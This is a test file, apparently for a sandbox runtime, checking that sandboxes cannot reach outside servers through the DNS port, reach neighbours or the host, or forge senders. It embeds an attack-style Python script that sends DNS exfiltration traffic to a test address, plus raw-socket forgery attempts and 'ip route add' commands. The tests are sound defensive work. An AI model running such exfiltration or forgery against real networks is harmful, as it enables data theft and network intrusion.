import type { Runtime, Sandbox, SandboxSpec } from '@hatchery/runtime';
import { describe, expect, test, vi } from 'vitest';
import { expectReached, expectRefused, useMadeUpNetwork } from '../../packages/runtime/test/made-up-network.ts';

// The made-up host is 198.51.100.1 and 172.31.0.1; servers for TCP and UDP at ports 80 and 53 are on it and on 198.51.100.2, 203.0.113.9.
const network = useMadeUpNetwork();
const outside = '198.51.100.2';
const refusals = /^(ECONNREFUSED|EHOSTUNREACH|ENETUNREACH|EADDRNOTAVAIL|EPERM|EACCES|EAFNOSUPPORT)$/;

async function withSandboxes(specs: SandboxSpec[], use: (...sandboxes: Sandbox[]) => Promise<void>): Promise<void> {
  await using runtime: Runtime = await network.open();
  await use(...(await Promise.all(specs.map((spec) => runtime.create(spec)))));
}

/** Sends so many names of 63-byte labels to port 53 there, by UDP and by TCP, whatever comes back. */
const exfiltration = `
import errno, os, socket, sys
address, count = sys.argv[1], int(sys.argv[2])
name = b''.join(bytes([63]) + os.urandom(31).hex().encode() + b'x' for _ in range(3)) + bytes([0])
query = bytes([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 16, 0, 1])
outcomes = set()
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
  for _ in range(count):
    try:
      s = socket.socket(socket.AF_INET, kind)
      s.settimeout(2)
      s.connect((address, 53))
      s.send(query)
      s.send(query)
      outcomes.add('sent')
    except OSError as error: outcomes.add(errno.errorcode.get(error.errno, 'timeout'))
print(' '.join(sorted(outcomes)))
`;

const exfiltrate = async (sandbox: Sandbox, address: string): Promise<string[]> => {
  const { stdout } = await sandbox.run(['python3', '-c', exfiltration, address, '20']);
  return stdout.toString().trim().split(' ');
};

const received = (): Promise<number> => network.world.outside.do<number>({ do: 'received' });

describe('a way out through the DNS port', () => {
  test('W04: there is none without a slot', async () => {
    await withSandboxes([{}], async (sandbox) => {
      const before = await received();
      for (const outcome of await exfiltrate(sandbox, outside)) expect(outcome).toMatch(refusals);
      expect(await received()).toBe(before);
    });
  });

  // Mutation: `closed` chains accept what is not in `allow`.
  test('W04: nor to a server that the rules do not allow, however the name looks, and nothing arrives there', async () => {
    const specs: SandboxSpec[] = [
      { network: { allow: ['203.0.113.9'] } },
      { network: { deny: ['198.51.100.0/24'] } },
      { network: { allow: [] } },
    ];
    await withSandboxes(specs, async (...sandboxes) => {
      const before = await received();
      for (const sandbox of sandboxes) {
        // A datagram is sent before the refusal comes back; that it arrives nowhere is what counts.
        await exfiltrate(sandbox, outside);
        await expectRefused(sandbox, outside, 53);
      }
      expect(await received()).toBe(before);
      // The same does arrive where it may: the count counts.
      await exfiltrate(sandboxes[0] as Sandbox, '203.0.113.9');
      expect(await received()).toBeGreaterThan(before);
    });
  });
});

describe('a neighbour, and the host by another name', () => {
  const open: SandboxSpec[] = [{ network: 'slot' }, { network: 'slot' }];

  test('W08: cannot be reached at its address, nor when rules say so, nor by a name that leads to it or to the host', async () => {
    await withSandboxes(open, async (...sandboxes) => {
      const [attacker, victim] = sandboxes as [Sandbox, Sandbox];
      await victim.exec(['python3', '-m', 'http.server', '80', '--bind', '0.0.0.0']);
      await vi.waitFor(async () => (await victim.connect(80)).destroy(), { timeout: 30_000 });
      const neighbour = String(victim.address);
      const gateway = neighbour.replace(/\d+$/, (last) => String(Number(last) - 1));
      const targets = [neighbour, gateway, '198.51.100.1', '172.31.0.1'];
      for (const rules of [{}, { allow: ['0.0.0.0/0'] }, { allow: [`${neighbour}/32`, '198.51.100.1', outside] }]) {
        await attacker.updateNetwork(rules);
        for (const address of targets) await expectRefused(attacker, address);
        await expectReached(attacker, outside);
        // What DNS rebinding does to a client that has looked at a name before: the name leads elsewhere now.
        for (const address of targets) {
          await attacker.files.write('/etc/hosts', `${address} rebound.test\n`);
          await expectRefused(attacker, 'rebound.test');
        }
      }
      expect((await victim.run(['true'])).exitCode).toBe(0);
    });
  });

  test('W06: root inside forges no sender: no raw or packet socket, no other address, no route', async () => {
    const forgeries = `
import errno, socket
def attempt(name, act):
  try:
    act()
    print(name, 'HARM')
  except OSError as error: print(name, errno.errorcode[error.errno])
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt('bind', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('198.51.100.2', 0)))
attempt('transparent', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(socket.SOL_IP, 19, 1))
`;
    await withSandboxes(open, async (attacker) => {
      if (attacker === undefined) throw new Error('there is no attacker');
      const { stdout } = await attacker.run(['python3', '-c', forgeries]);
      const outcomes = stdout.toString().trim().split('\n');
      expect([outcomes.length, outcomes.filter((line) => line.endsWith('HARM'))]).toEqual([4, []]);
      const addresses = async () => (await attacker.run(['cat', '/proc/net/fib_trie'])).stdout.toString();
      const before = await addresses();
      await attacker.run(['sh', '-c', 'ip addr add 198.51.100.9/24 dev eth0; ip route add 10.0.0.0/8 dev eth0']);
      expect(await addresses()).toBe(before);
    });
  });
});
